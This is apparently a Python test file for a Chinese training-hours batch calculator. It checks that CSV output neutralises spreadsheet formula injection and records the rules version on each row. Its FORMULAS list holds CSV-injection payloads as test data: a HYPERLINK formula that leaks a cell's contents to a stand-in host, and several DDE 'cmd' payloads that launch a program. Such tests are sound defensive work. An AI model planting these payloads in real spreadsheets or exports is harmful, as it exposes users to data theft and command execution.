"""The batch result is safe to open in a spreadsheet (OWASP, CSV injection) and names the rules it was checked on.

Both the command line's output and the browser's download are the rows of calculator.table.safe_rows, written
by csv.writer (calculator/csv_files.py) or by the worker's own writer (worker.js); both are checked here.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from calculator import table as core
from calculator.csv_files import check_lines, split_lines, write_csv
from calculator.ruleset import load_rules_file, rules_version
from tests.batch_readers import GLUE, browser_table, js_read, js_write
from tests.conftest import ROOT

RULES = load_rules_file(str(ROOT / "calculator" / "rules.json"))
VERSION = "{}（{}）".format(
    rules_version(RULES)["id"], rules_version(RULES)["date"]
)  # text to a spreadsheet, never a number
HEADER = "姓名,公需必修,公需选修,专业科目,备注\r\n"

FORMULAS = [
    '=HYPERLINK("http://example.com/?leak="&A1,"点这里")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  =1+1",
    "\u3000=1+1",
]


def browser_download(text: str, year: str = "2026") -> str:
    """The CSV the page offers for download (worker.js adds only the BOM): the worker's reader and writer under
    Node, the glue under CPython (tests/batch_readers.py)."""
    return js_write(browser_table(text, year))


def cli_output(text: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "calculator", "batch", "-", "--year", "2026"],
        cwd=ROOT,
        input=text.encode("utf-8"),
        capture_output=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr.decode("utf-8")
    return done.stdout.decode("utf-8")


def read(csv_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text, newline="")))


def formula_table() -> str:
    lines = []
    for number, formula in enumerate(FORMULAS):
        cell = '"' + formula.replace('"', '""') + '"'
        lines.append(f"{cell},20,0,70,{cell}\r\n")
        lines.append(f"员工{number},20,0,{cell},备注\r\n")
    return HEADER + "".join(lines)


@pytest.mark.parametrize("writer", ["command line", "browser download"])
def test_every_formula_cell_gets_a_quote_in_front_and_nothing_else_changes(writer: str) -> None:
    text = formula_table()
    output = cli_output(text) if writer == "command line" else browser_download(text)
    rows = read(output)
    assert rows[0][:5] == ["姓名", "公需必修", "公需选修", "专业科目", "备注"]
    body = rows[1:]
    assert len(body) == 2 * len(FORMULAS)
    for number, formula in enumerate(FORMULAS):
        as_name, as_hours = body[2 * number], body[2 * number + 1]
        assert as_name[0] == as_name[4] == "'" + formula
        assert as_name[5] == "达标"  # the row itself is checked as usual
        assert as_hours[3] == "'" + formula  # checked as typed (＋1 is 1 hour; =1+1 is an error), written safely
        assert as_hours[0] == f"员工{number}"


@pytest.mark.parametrize("writer", ["command line", "browser download"])
def test_numbers_stay_numbers(writer: str) -> None:
    text = HEADER + "张三,20,0,-5,-3.5\r\n李四,+20,0,70,+1\r\n"
    output = cli_output(text) if writer == "command line" else browser_download(text)
    rows = read(output)
    assert rows[1][3:5] == ["-5", "-3.5"]
    assert rows[2][1] == "+20" and rows[2][4] == "+1"
    assert rows[2][5] == "达标" and rows[2][8] == "90"


@pytest.mark.parametrize("writer", ["command line", "browser download"])
def test_every_row_names_the_rules_version_it_was_checked_on(writer: str) -> None:
    text = HEADER + "张三,20,0,70,\r\n李四,二十,0,70,\r\n"
    rows = read(cli_output(text) if writer == "command line" else browser_download(text))
    assert rows[0][-1] == "规则版本"
    assert [row[-1] for row in rows[1:]] == [VERSION, VERSION]


def test_a_previous_result_read_again_keeps_one_rules_version_column_and_its_quotes() -> None:
    names = "".join('"{0}",20,0,70,"{0}"\r\n'.format(formula.replace('"', '""')) for formula in FORMULAS)
    first = cli_output(HEADER + names)
    again = cli_output(first)
    assert again == first
    assert read(again)[0].count("规则版本") == 1


def checked(text: str, year: Any, as_of: Any) -> list[list[str]]:
    """The result rows (before spreadsheet safety) of a CSV text, as the command line reads it."""
    counts = {"passed": 0, "failed": 0, "error": 0}
    return list(check_lines(RULES, split_lines(text), year, as_of, counts))


def output_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


CELL = st.one_of(
    st.sampled_from([*FORMULAS, "", "20", "-5", "+5", "1e5", "'=x", "张三", " ", "=", "-", "@"]),
    st.text(alphabet=st.sampled_from(list("=+-@\t\r\n＝＋－＠ \u3000 a1.,\"'中")), max_size=6),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(CELL, min_size=5, max_size=6), min_size=1, max_size=6))
def test_no_cell_written_starts_a_formula_and_each_is_the_cell_or_a_quote_and_the_cell(
    table: list[list[str]],
) -> None:
    text = HEADER + "".join(",".join('"' + cell.replace('"', '""') + '"' for cell in row) + "\r\n" for row in table)
    rows = checked(text, 2026, None)
    written = read(write_csv(rows))
    assert len(written) == len(rows)
    for plain, safe in zip(output_cells(rows), output_cells(written), strict=True):
        assert safe == core.spreadsheet_safe(plain)
        assert safe in (plain, "'" + plain)
        start = safe.lstrip(" \u3000\xa0")[:1]
        if start and start in core.FORMULA_STARTS:
            number = safe.strip(" \u3000\xa0").lstrip("+-")
            assert number.replace(".", "", 1).isdigit() and number.isascii(), safe


def test_our_own_columns_never_need_a_quote() -> None:
    """Verdicts, figures, warning ids, errors and the version never start like a formula (so they stay as they are)."""
    text = HEADER + "".join(f"员工{n},{n % 25},{n % 40}.5,{n % 90},\r\n" for n in range(300))
    text += "坏,-5,x,=1,\r\n空,,,,\r\n"
    rows = checked(text, 2026, "2026-06-01")
    ours = [cell for row in rows for cell in row[5:]]
    assert all(core.spreadsheet_safe(cell) is cell for cell in ours)


def test_writing_ten_thousand_plain_rows_keeps_the_fast_path(monkeypatch: Any) -> None:
    """No formula anywhere: write_csv writes the table once, never cell by cell."""
    calls: list[list[str]] = []

    def counted(row: list[str]) -> list[str]:
        calls.append(row)
        return row

    monkeypatch.setattr(core, "_safe_row", counted)
    rows = checked(HEADER + "张三,20,0,70,\r\n" * 10_000, 2026, None)
    assert write_csv(rows).count("\r\n") == 10_001
    assert calls == []


def test_a_line_break_after_spaces_at_the_start_of_a_quoted_cell_is_neutralised() -> None:
    # Found by the property above: " \r" was missed by the quick search for formula starts.
    for cell in (" \r", "\u3000\n", " \r=1+1"):
        assert read(write_csv([["姓名"], [cell]]))[1] == ["'" + cell]


def test_the_page_gets_the_rows_as_they_are_and_the_download_gets_them_safe_both_after_the_start_mark() -> None:
    """batch_table (what the page shows and the .xlsx holds) keeps a cell as typed; batch_rows (the CSV download) makes
    it spreadsheet safe; both start with TEXT_START, put in by the one join (table.joined's `start`), so that a first
    header cell starting with U+FEFF keeps it on its way to JavaScript."""
    assert GLUE.batch_table().startswith(GLUE.TEXT_START)
    text = "\ufeff姓名,公需必修,公需选修,专业科目\r\n=SUM(A1),20,0,70\r\n张三,20,0,70\r\n"
    python = js_read(text)["python"]
    answer = json.loads(GLUE.batch(python["text"], python["shape"], "2026", "", None, 100))
    assert answer["result"]["counts"] == {"passed": 2, "failed": 0, "error": 0}
    shown = GLUE.batch_table()
    assert shown.startswith(GLUE.TEXT_START + "\ufeff姓名\x1f")
    rows = [row.split("\x1f") for row in shown[len(GLUE.TEXT_START) :].split("\x1e")]
    assert [row[0] for row in rows] == ["\ufeff姓名", "=SUM(A1)", "张三"]
    download = GLUE.batch_rows()
    assert download.startswith(GLUE.TEXT_START + "\ufeff姓名")
    assert [row.split("\x1f")[0] for row in download[1:].split("\x1e")] == ["\ufeff姓名", "'=SUM(A1)", "张三"]
    refused = json.loads(GLUE.batch("", json.dumps({**json.loads(python["shape"]), "rows": 0}), "2026", "", None, 100))
    assert "error" in refused and GLUE.batch_table() == GLUE.TEXT_START


def test_joined_puts_its_start_before_the_first_row_in_the_one_join() -> None:
    assert core.joined([["a", "b"], ["c"]]) == "a\x1fb\x1ec"
    assert core.joined([["a", "b"], ["c"]], "\x1d") == "\x1da\x1fb\x1ec"
    assert core.joined([], "\x1d") == "\x1d" and core.joined([]) == ""
